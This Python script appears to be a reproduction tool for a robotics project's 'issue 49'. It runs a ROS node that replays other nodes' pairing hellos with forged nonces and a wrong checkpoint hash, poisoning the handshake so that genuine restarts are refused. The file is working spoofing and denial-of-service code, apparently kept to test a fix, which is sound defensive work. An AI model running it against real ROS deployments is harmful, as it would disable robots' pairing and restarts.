"""A bystander that poisons the start hellos: the attack of issue 49.

`python hello_poisoner.py SECONDS` starts a node named `poisoner` that publishes no action,
context or step at all. It listens on `zeus/pairing` and, every 50 ms, re-publishes the newest
hello of every node it has heard with the same node name, pid and GIDs, the same proof, a random
start nonce and a wrong checkpoint sha256 (`ffff...`). Before hellos were checked on receipt, a
node stored every hello by the GIDs it listed, last writer wins, so the pair's reference became
the poisoner's copy, and the genuine restart of the policy (or of the estimator) was refused
forever ("sha256 is not the pair's ffff..."). It prints `relaying NODE` for each node it first
poisons and `relayed N` at the end (SIGINT, SIGTERM or after SECONDS).
"""

from __future__ import annotations

import json
import secrets
import signal
import sys
import time

import rclpy
from rclpy.executors import SingleThreadedExecutor
from rclpy.qos import DurabilityPolicy, HistoryPolicy, QoSProfile, ReliabilityPolicy
from std_msgs.msg import String

from zeus_ros.nodes.handshake import PAIRING_TOPIC

WRONG_SHA256 = 'f' * 64
QOS = QoSProfile(history=HistoryPolicy.KEEP_LAST, depth=1,  # the hellos' own (handshake.py)
                 reliability=ReliabilityPolicy.RELIABLE,
                 durability=DurabilityPolicy.TRANSIENT_LOCAL)


def main(seconds: float) -> int:
    """Poison for `seconds` (or until signalled); return 0."""
    rclpy.init()
    node = rclpy.create_node('poisoner')
    heard: dict[str, dict[str, object]] = {}  # node name -> its newest genuine hello
    ours: set[str] = set()  # the nonces we made up: never relayed again

    def on_hello(msg: String) -> None:
        try:
            data = json.loads(msg.data)
        except ValueError:
            return
        if data.get('nonce') in ours or not isinstance(data.get('node'), str):
            return
        if data['node'] not in heard:
            print(f'relaying {data["node"]}', flush=True)
        heard[data['node']] = data

    node.create_subscription(String, PAIRING_TOPIC, on_hello, QOS)
    publisher = node.create_publisher(String, PAIRING_TOPIC, QOS)
    executor = SingleThreadedExecutor()
    executor.add_node(node)
    stop = {'now': False}
    for sig in (signal.SIGINT, signal.SIGTERM):
        signal.signal(sig, lambda *_: stop.__setitem__('now', True))
    relayed = 0
    end = time.monotonic() + seconds
    next_relay = 0.0
    while time.monotonic() < end and not stop['now']:
        executor.spin_once(timeout_sec=0.01)
        if time.monotonic() < next_relay:
            continue
        next_relay = time.monotonic() + 0.05
        for data in list(heard.values()):
            nonce = secrets.token_hex(8)
            ours.add(nonce)
            publisher.publish(String(data=json.dumps({**data, 'nonce': nonce,
                                                      'sha256': WRONG_SHA256})))
            relayed += 1
    print(f'relayed {relayed}', flush=True)
    node.destroy_node()
    rclpy.try_shutdown()
    return 0


if __name__ == '__main__':
    raise SystemExit(main(float(sys.argv[1])))
